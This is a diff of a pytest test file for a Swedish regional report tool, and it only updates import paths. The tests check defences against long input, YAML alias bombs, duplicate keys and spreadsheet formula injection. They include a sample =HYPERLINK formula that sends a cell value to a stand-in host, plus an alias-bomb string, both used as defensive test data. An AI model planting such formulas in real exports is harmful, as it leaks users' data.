@@ -17,8 +17,8 @@ from pathlib import Path
 
 import pytest
 
-from naravard.catalog import load_catalog
-from naravard.errors import NaravardError
+from naravard.config.catalog import load_catalog
+from naravard.core.errors import NaravardError
 from naravard.sources.regional import read_regional_file
 
 HEADER = "indicator_id;year;gender;value;source;note"
@@ -110,7 +110,7 @@ def test_6_a_long_source_is_refused(tmp_path, catalog):
 
 
 def test_6_a_long_answer_text_is_refused(tmp_path):
-    from naravard.questionnaire import load_structure, validate_answers
+    from naravard.report.questionnaire import load_structure, validate_answers
 
     data = {"region": "vasterbotten", "year": 2024,
             "answers": {"35": {"answer": 18, "source": "y" * 10_000}}}
@@ -119,7 +119,7 @@ def test_6_a_long_answer_text_is_refused(tmp_path):
 
 
 def test_6_a_long_catalogue_text_is_refused(tmp_path):
-    from naravard.paths import catalog_path
+    from naravard.core.paths import catalog_path
 
     text = catalog_path().read_text(encoding="utf-8")
     bad = tmp_path / "indicators.yaml"
@@ -129,7 +129,7 @@ def test_6_a_long_catalogue_text_is_refused(tmp_path):
 
 
 def test_6_the_stylesheet_lets_long_words_break():
-    from naravard.render import TEMPLATES_DIR
+    from naravard.core.paths import TEMPLATES_DIR
 
     css = (TEMPLATES_DIR / "naravard" / "static" / "naravard.css").read_text(encoding="utf-8")
     assert "overflow-wrap: break-word" in css
@@ -138,9 +138,9 @@ def test_6_the_stylesheet_lets_long_words_break():
 def test_6_a_long_but_allowed_word_prints_quickly(tmp_path):
     import nbformat
 
-    from naravard.render import html_to_pdf, notebook_to_html
+    from naravard.build.render import html_to_pdf, notebook_to_html
 
-    from naravard.limits import MAX_WORD, check_length
+    from naravard.core.limits import MAX_WORD, check_length
 
     word = ("Regionfullmäktigesbeslut" * 20)[:MAX_WORD]  # the longest word allowed
     check_length(f"Se {word}", "regional_note", "x")
@@ -161,7 +161,7 @@ BOMB = "\n".join(["a: &a [x, x, x, x, x, x, x, x, x]"]
 
 
 def test_7_an_alias_bomb_in_answers_is_refused_quickly(tmp_path):
-    from naravard.questionnaire import check_file
+    from naravard.report.questionnaire import check_file
 
     folder = tmp_path / "vasterbotten"
     folder.mkdir()
@@ -175,7 +175,7 @@ def test_7_an_alias_bomb_in_answers_is_refused_quickly(tmp_path):
 
 @pytest.mark.parametrize("loader", ["catalog", "structure", "answers"])
 def test_7_anchors_and_aliases_are_refused_everywhere(tmp_path, loader):
-    from naravard import safe_yaml
+    from naravard.core import safe_yaml
 
     path = tmp_path / "x.yaml"
     path.write_text(BOMB + "\n", encoding="utf-8")
@@ -197,7 +197,7 @@ def test_7_every_yaml_read_goes_through_the_safe_loader():
 
 
 def test_8_a_duplicate_key_in_answers_is_refused(tmp_path):
-    from naravard.questionnaire import read_answers
+    from naravard.report.questionnaire import read_answers
 
     folder = tmp_path / "vasterbotten"
     folder.mkdir()
@@ -209,7 +209,7 @@ def test_8_a_duplicate_key_in_answers_is_refused(tmp_path):
 
 
 def test_8_a_duplicate_key_in_the_questionnaire_structure_is_refused(tmp_path):
-    from naravard.questionnaire.structure import read_yaml
+    from naravard.report.questionnaire.structure import read_yaml
 
     path = tmp_path / "2024.yaml"
     path.write_text("title: a\ntitle: b\n", encoding="utf-8")
@@ -217,7 +217,7 @@ def test_8_a_duplicate_key_in_the_questionnaire_structure_is_refused(tmp_path):
 
 
 def test_7_an_error_quotes_only_a_short_excerpt(tmp_path):
-    from naravard.questionnaire import load_structure, validate_answers
+    from naravard.report.questionnaire import load_structure, validate_answers
 
     data = {"region": "vasterbotten", "year": 2024, "answers": {"5": {"answer": "J" * 100_000}}}
     message = one_line_error(validate_answers, data, load_structure(2024))
@@ -264,7 +264,7 @@ def _tiny_snapshot(directory: Path, rows: list[tuple[str, str, int, float]]) -> 
 @pytest.mark.parametrize(("kpi", "value"), [("N79173", 140.0), ("N79173", -2.0),
                                             ("U20462", -5.0), ("U20462", 1e300)])
 def test_9_impossible_kolada_values_name_the_source_file(tmp_path, project_tmp, kpi, value):
-    from naravard.table import clear_memo, load_observations
+    from naravard.sources.table import clear_memo, load_observations
 
     clear_memo()
     snap = _tiny_snapshot(tmp_path / "snap", [(kpi, "0001", 2023, value),
@@ -284,7 +284,7 @@ EVIL = '=HYPERLINK("http://example.invalid/?x="&A1;"Klicka")'
     ("-3,2", "-3,2"), ("+4", "+4"), ("-0.5 %", "-0.5 %"), ("Ja", "Ja"), (12.5, 12.5), ("-", "'-"),
 ])
 def test_3_text_cells_that_spreadsheets_run_get_a_quote(cell, safe):
-    from naravard.export_safety import neutralise
+    from naravard.core.export_safety import neutralise
 
     assert neutralise(cell) == (safe if safe is not None else "'" + cell)
 
@@ -294,9 +294,9 @@ def evil_rep(snapshot_dir, tmp_path_factory):
     """Västerbotten 2024 with a catalogue name that is a formula."""
     import dataclasses
 
-    from naravard import report
-    from naravard.catalog import Catalog
-    from naravard.table import load_observations
+    from naravard.report import region as report
+    from naravard.config.catalog import Catalog
+    from naravard.sources.table import load_observations
 
     base = load_catalog()
     first = base.indicators[0]
@@ -317,7 +317,7 @@ def _xlsx_cells(data: bytes) -> list:
 
 
 def test_3_a_catalogue_name_reaches_csv_and_xlsx_as_text(evil_rep):
-    from naravard import report
+    from naravard.report import region as report
 
     csv_text = report.export_csv_bytes(evil_rep).decode("utf-8-sig")
     assert f"'{EVIL}" in csv_text.replace('""', '"')
@@ -328,7 +328,7 @@ def test_3_a_catalogue_name_reaches_csv_and_xlsx_as_text(evil_rep):
 
 
 def test_3_the_national_workbook_is_neutralised(evil_rep):
-    from naravard import national
+    from naravard.report import national
 
     nat = national.prepare(2024, obs=evil_rep.obs, catalog=evil_rep.catalog, figures=None)
     cells = _xlsx_cells(national.export_xlsx_bytes(nat))
@@ -338,7 +338,7 @@ def test_3_the_national_workbook_is_neutralised(evil_rep):
 
 def test_3_columns_added_later_are_covered_by_the_writers(evil_rep, monkeypatch):
     """A regional note and a questionnaire answer, in columns the writers do not know."""
-    from naravard import report
+    from naravard.report import region as report
 
     original = report.export_frame
 
@@ -356,7 +356,7 @@ def test_3_columns_added_later_are_covered_by_the_writers(evil_rep, monkeypatch)
 
 
 def test_3_negative_numbers_stay_numbers_in_the_csv(evil_rep):
-    from naravard import report
+    from naravard.report import region as report
 
     csv_text = report.export_csv_bytes(evil_rep).decode("utf-8-sig")
     assert ";'-" not in csv_text  # no number got a quote
@@ -366,7 +366,7 @@ def test_3_negative_numbers_stay_numbers_in_the_csv(evil_rep):
 # --- 14. SOURCE_DATE_EPOCH in the workbooks -----------------------------------------------------
 
 def test_14_xlsx_is_identical_under_source_date_epoch(evil_rep, monkeypatch):
-    from naravard import report
+    from naravard.report import region as report
 
     monkeypatch.setenv("SOURCE_DATE_EPOCH", "1735689600")
     first = report.export_xlsx_bytes(evil_rep)
@@ -440,7 +440,7 @@ def test_10_a_copied_signature_does_not_pass_for_another_payload(tmp_path, snaps
                                                                  monkeypatch):
     import pickle
 
-    from naravard.table import (load_observations, load_saved_observations,
+    from naravard.sources.table import (load_observations, load_saved_observations,
                                 save_observations)
 
     own = save_observations(load_observations(snapshot_dir), tmp_path / "own.pkl")
@@ -461,8 +461,8 @@ def test_10_a_copied_signature_does_not_pass_for_another_payload(tmp_path, snaps
 
 @pytest.fixture(scope="module")
 def example_rep():
-    from naravard import report
-    from naravard.table import _example_observations, validate
+    from naravard.report import region as report
+    from naravard.sources.table import _example_observations, validate
 
     catalog = load_catalog()
     obs = _example_observations(catalog)
@@ -471,8 +471,9 @@ def example_rep():
 
 
 def test_2_an_example_data_report_goes_under_exempeldata(project_tmp, example_rep, evil_rep):
-    from naravard import national, pipeline
-    from naravard.paths import figures_dir, output_dir
+    from naravard.report import national
+    from naravard.build import pipeline
+    from naravard.core.paths import figures_dir, output_dir
 
     job = pipeline.region_job(example_rep, None)
     assert job.out_dir == output_dir() / "exempeldata" / "vasterbotten" / "2024"
@@ -486,14 +487,14 @@ def test_2_an_example_data_report_goes_under_exempeldata(project_tmp, example_re
 def test_2_a_real_report_stays_untouched_and_current(project_tmp, example_rep, evil_rep,
                                                      monkeypatch):
     """The real report and its manifest are neither replaced nor made stale for `make reports`."""
-    from naravard import batch, pipeline
+    from naravard.build import batch, pipeline
 
     real = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
     before = _tree(project_tmp)
     assert batch.up_to_date(real)
 
     example = pipeline.region_job(example_rep, None)
-    monkeypatch.setattr("naravard.render.execute_notebook", _fake_execute)
+    monkeypatch.setattr("naravard.build.render.execute_notebook", _fake_execute)
     pipeline.run_job(example, Path("unused.pkl"))
     assert (example.out_dir / "rapport.pdf").is_file()
     after = _tree(project_tmp)
@@ -521,10 +522,10 @@ def _fake_execute(notebook, parameters, output_path, **_):
 
 def _fake_report(job):
     """Render `job` with the stand-in notebook runner (no kernel), as run_job publishes it."""
-    from naravard import pipeline
+    from naravard.build import pipeline
 
     with pytest.MonkeyPatch.context() as mp:
-        mp.setattr("naravard.render.execute_notebook", _fake_execute)
+        mp.setattr("naravard.build.render.execute_notebook", _fake_execute)
         pipeline.run_job(job, Path("unused.pkl"))
     return job
 
@@ -534,13 +535,13 @@ def _fake_report(job):
 @pytest.mark.parametrize("name", ["rapport.pdf", "manifest.json", "indikatorer.csv"])
 def test_5_a_folder_where_a_report_file_goes_is_refused_before_any_work(project_tmp, evil_rep,
                                                                         monkeypatch, name):
-    from naravard import pipeline
+    from naravard.build import pipeline
 
     job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
     (job.out_dir / name).unlink()
     (job.out_dir / name).mkdir()
     before = _tree(project_tmp)
-    monkeypatch.setattr("naravard.render.execute_notebook",
+    monkeypatch.setattr("naravard.build.render.execute_notebook",
                         lambda *a, **k: pytest.fail("rendered despite a blocked destination"))
     message = one_line_error(pipeline.run_job, job, Path("unused.pkl"))
     assert f"2024/{name} är en mapp" in message
@@ -554,12 +555,12 @@ def test_5_a_full_disk_while_rendering_names_the_report_folder(project_tmp, evil
     line read "fel: No space left on device; …" (issue 19, weak points)."""
     import errno
 
-    from naravard import pipeline
+    from naravard.build import pipeline
 
     def full(*args, **kwargs):
         raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
 
-    monkeypatch.setattr("naravard.render.execute_notebook", full)
+    monkeypatch.setattr("naravard.build.render.execute_notebook", full)
     job = pipeline.region_job(evil_rep, "snapshot")
     with pytest.raises(OSError) as info:
         pipeline.run_job(job, Path("unused.pkl"))
@@ -567,12 +568,12 @@ def test_5_a_full_disk_while_rendering_names_the_report_folder(project_tmp, evil
     assert not job.out_dir.exists()
 
 def test_5_figures_being_a_file_is_one_line(project_tmp, evil_rep, monkeypatch):
-    from naravard import pipeline
+    from naravard.build import pipeline
 
     job = pipeline.region_job(evil_rep, "snapshot")
     (project_tmp / "figures").rmdir()
     (project_tmp / "figures").write_text("inte en mapp", encoding="utf-8")
-    monkeypatch.setattr("naravard.render.execute_notebook",
+    monkeypatch.setattr("naravard.build.render.execute_notebook",
                         lambda *a, **k: pytest.fail("rendered despite a blocked destination"))
     message = one_line_error(pipeline.run_job, job, Path("unused.pkl"))
     assert "figures är en fil" in message
@@ -580,7 +581,7 @@ def test_5_figures_being_a_file_is_one_line(project_tmp, evil_rep, monkeypatch):
 
 def test_5_a_failure_while_swapping_leaves_the_old_report_and_figures(project_tmp, evil_rep,
                                                                      monkeypatch):
-    from naravard import pipeline
+    from naravard.build import pipeline
 
     job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
     before = _tree(project_tmp)
@@ -592,7 +593,7 @@ def test_5_a_failure_while_swapping_leaves_the_old_report_and_figures(project_tm
         real_rename(src, dst)
 
     monkeypatch.setattr(os, "rename", failing_rename)
-    monkeypatch.setattr("naravard.render.execute_notebook", _fake_execute)
+    monkeypatch.setattr("naravard.build.render.execute_notebook", _fake_execute)
     message = one_line_error(pipeline.run_job, job, Path("unused.pkl"))
     assert "den förra är kvar" in message
     assert _tree(project_tmp) == before
@@ -602,7 +603,7 @@ def test_5_a_failure_while_swapping_leaves_the_old_report_and_figures(project_tm
 
 
 def test_5_files_the_user_put_in_the_report_folder_stay(project_tmp, evil_rep):
-    from naravard import pipeline
+    from naravard.build import pipeline
 
     job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
     (job.out_dir / "min-anteckning.txt").write_text("behåll", encoding="utf-8")
@@ -617,7 +618,7 @@ def test_5_files_the_user_put_in_the_report_folder_stay(project_tmp, evil_rep):
 @pytest.mark.parametrize("damage", ["indikatorer.csv", "indikatorer.xlsx", "rapport.ipynb",
                                     "figures/diagram.svg", "edit:rapport.pdf", "edit:figures"])
 def test_12_a_missing_or_changed_output_is_rendered_again(project_tmp, evil_rep, damage):
-    from naravard import batch, pipeline
+    from naravard.build import batch, pipeline
 
     job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
     assert batch.up_to_date(job)
@@ -633,8 +634,8 @@ def test_12_a_missing_or_changed_output_is_rendered_again(project_tmp, evil_rep,
 
 
 def test_12_the_manifest_lists_every_output_with_its_hash(project_tmp, evil_rep):
-    from naravard import pipeline
-    from naravard.manifest import sha256_file
+    from naravard.build import pipeline
+    from naravard.build.manifest import sha256_file
 
     job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
     outputs = json.loads((job.out_dir / "manifest.json").read_text(encoding="utf-8"))["outputs"]
@@ -646,7 +647,7 @@ def test_12_the_manifest_lists_every_output_with_its_hash(project_tmp, evil_rep)
 # --- 13. leftovers of killed runs are removed -------------------------------------------------
 
 def test_13_staging_folders_of_dead_processes_are_removed(project_tmp, evil_rep):
-    from naravard import pipeline
+    from naravard.build import pipeline
 
     proc = subprocess.Popen(["true"])
     proc.wait()
@@ -665,7 +666,7 @@ def test_13_staging_folders_of_dead_processes_are_removed(project_tmp, evil_rep)
 def test_13_staging_folders_of_older_naravard_versions_are_removed_when_a_day_old(tmp_path):
     """Before staging folders carried the process id they were named `.2024-<random>`: a
     later run removes those that are a day old (no run takes that long), not newer ones."""
-    from naravard import publish
+    from naravard.core import publish
 
     old, recent = tmp_path / ".2024-k3j_x9q2", tmp_path / ".2024-ab12cd34"
     kept = [tmp_path / ".2024-notes", tmp_path / "2024", tmp_path / ".2024-k3j_x9q2x"]
@@ -684,7 +685,8 @@ def test_13_staging_folders_of_older_naravard_versions_are_removed_when_a_day_ol
 @pytest.mark.parametrize(("umask", "folder", "file"), [(0o022, 0o755, 0o644),
                                                        (0o027, 0o750, 0o640)])
 def test_outputs_are_readable_as_the_umask_allows(project_tmp, evil_rep, umask, folder, file):
-    from naravard import pipeline, publish
+    from naravard.build import pipeline
+    from naravard.core import publish
 
     old = os.umask(umask)
     publish._umask.cache_clear()
@@ -700,7 +702,7 @@ def test_outputs_are_readable_as_the_umask_allows(project_tmp, evil_rep, umask, 
 
 
 def test_14_the_manifest_honours_source_date_epoch(project_tmp, evil_rep, monkeypatch):
-    from naravard import pipeline
+    from naravard.build import pipeline
 
     monkeypatch.setenv("SOURCE_DATE_EPOCH", "1735689600")
     job = _fake_report(pipeline.region_job(evil_rep, "snapshot"))
@@ -754,7 +756,8 @@ def test_11_questionnaire_template_into_a_folder_is_one_line(tmp_path, capsys):
 
 
 def test_11_a_read_only_output_folder_is_one_line(project_tmp, evil_rep, monkeypatch):
-    from naravard import pipeline, publish
+    from naravard.build import pipeline
+    from naravard.core import publish
 
     def refuse(*args, **kwargs):
         raise PermissionError(13, "Permission denied", str(project_tmp / "output"))
@@ -766,7 +769,7 @@ def test_11_a_read_only_output_folder_is_one_line(project_tmp, evil_rep, monkeyp
 
 
 def test_11_any_other_disk_error_is_one_line_naming_the_file(capsys, monkeypatch):
-    from naravard import pipeline
+    from naravard.build import pipeline
 
     def full(*args, **kwargs):
         raise OSError(28, "No space left on device", "/data/output/gotland/2024")
@@ -871,7 +874,7 @@ def test_11_ctrl_c_during_make_reports_is_one_line_and_stops_the_workers(tmp_pat
 
 def test_14_years_outside_the_range_in_a_snapshot_are_left_out_with_a_note(tmp_path,
                                                                            project_tmp):
-    from naravard.table import clear_memo, load_observations
+    from naravard.sources.table import clear_memo, load_observations
 
     clear_memo()
     snap = _tiny_snapshot(tmp_path / "snap", [("N79173", "0001", 1999, 60.0),
@@ -886,7 +889,7 @@ def test_14_another_regions_broken_file_does_not_block_a_report(tmp_path, projec
                                                                 monkeypatch, capsys):
     import shutil
 
-    from naravard.paths import repo_root
+    from naravard.core.paths import repo_root
 
     regional_copy = tmp_path / "regional"
     shutil.copytree(repo_root() / "data" / "regional", regional_copy)
